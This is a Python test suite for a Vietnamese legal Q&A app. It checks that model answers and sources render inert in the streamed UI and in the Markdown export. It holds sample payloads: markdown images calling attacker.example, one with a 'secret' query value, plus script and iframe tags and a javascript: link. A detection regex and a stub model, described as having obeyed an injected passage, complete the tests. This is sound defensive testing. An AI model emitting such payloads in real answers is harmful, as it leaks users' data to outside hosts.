"""Text we did not write renders inert (app/services/render.py): no remote image, no HTML,
no script link — in the UI (streamed piece by piece) and in the Markdown export."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.services import QAResult, Source, answer_markdown
from app.services.render import safe_inline, safe_markdown
from legal.address import LegalAddress

# CommonMark with raw HTML on and bare-URL autolinks: the most permissive reader of the
# export (Streamlit itself does not render raw HTML)
MD = MarkdownIt("commonmark", {"html": True})

HOSTILE = (
    "![logo](https://attacker.example/x.png?q=BÍ_MẬT)",
    "![a][r]\n\n[r]: https://attacker.example/y.png",
    '<img src="https://attacker.example/z.png">',
    "<script>alert(1)</script>",
    '<iframe src="https://attacker.example"></iframe>',
)
# not attacks by themselves, but what a naive escaper gets wrong
TRICKY = ("\\![x](https://attacker.example/w.png)", "\\\\![x](https://a.example/v.png)",
          "<https://attacker.example/auto>", "!<img src=x>",
          "[bấm vào](javascript:alert(1))")  # fmt: skip


def loads_something(markdown: str) -> bool:
    html = MD.render(markdown)
    return bool(re.search(r"<(img|script|iframe)\b|href=\"(javascript|data):", html))


def test_each_hostile_form_loads_nothing() -> None:
    for text in HOSTILE:
        assert loads_something(text), text  # the check sees the attack unescaped
        assert not loads_something(safe_markdown(text)), text
        assert not loads_something(safe_inline(text)), text
    for text in TRICKY:
        assert not loads_something(safe_markdown(text)), text
        assert "javascript:" not in safe_markdown(text).split("](")[-1]
        assert "https://attacker.example/auto" not in re.findall(
            r'href="([^"]*)"', MD.render(safe_markdown(text))
        )


def test_ordinary_answers_read_the_same() -> None:
    text = "Không quá 08 giờ trong 01 ngày [1]; xem [luật](https://vbpl.vn/x) (khoản 2)!"
    assert MD.render(safe_markdown(text)) == MD.render(text)


_pieces = st.lists(
    st.one_of(st.sampled_from(["!", "[", "]", "(", ")", "<", ">", "\\", "img", "https://a.b/c.png",
                               "src=", '"', "\n", " "]), st.text(max_size=5)),
    max_size=30,
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(_pieces)
def test_escaping_piece_by_piece_is_safe_on_a_stream(pieces: list[str]) -> None:
    """The UI escapes each streamed piece: the joined pieces load nothing, however the
    model's text was split."""
    streamed = "".join(safe_markdown(p) for p in pieces)
    assert not re.search(r"<(img|script|iframe)\b", MD.render(streamed))


def _hostile_result() -> QAResult:
    quote = "Không quá 08 giờ ![q](https://a.example/q.png)"
    src = Source(LegalAddress("45/2019/QH14", "105", "1"), "khoản 1 Điều 105",
                 "khoản 1 Điều 105 <b>BLLĐ</b>", quote)  # fmt: skip
    return QAResult(
        question="Hỏi <img src=x>?",
        text="Trả lời [1]. " + " ".join(HOSTILE),
        mode="generated",
        sources=(src,),
        warnings=("<script>x</script>",),
    )


def test_the_markdown_export_loads_nothing() -> None:
    md = answer_markdown(_hostile_result())
    assert not loads_something(md)
    assert "Trả lời [1]." in md and "## Căn cứ pháp lý" in md


class HostileAnswerer:
    """A model that obeyed an injected passage: images, HTML and a made-up citation."""

    def stream(
        self, question: str, *, retrieval_query: str, docs: object, as_of: str | None = None
    ) -> object:
        text = "Theo đoạn [1]. " + " ".join(HOSTILE)
        for i in range(0, len(text), 7):  # split anywhere, as a stream is
            yield text[i : i + 7]
        yield _hostile_result()


def test_the_ui_renders_a_hostile_answer_inert(tmp_path: Path, app_with: Any) -> None:
    from tests.app.test_ui_apptest import scripted

    services = scripted(tmp_path, HostileAnswerer())  # type: ignore[arg-type]
    at = app_with(services)
    at.chat_input[0].set_value("Hỏi <img src=x>?").run()
    assert not at.exception
    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown += [w.value for w in at.warning]
    assert any("Trả lời [1]." in s for s in shown)
    for value in shown:
        if "luatqa-provision" in value:
            continue  # our own HTML (provision_html escapes the statute's text)
        assert not loads_something(value), value
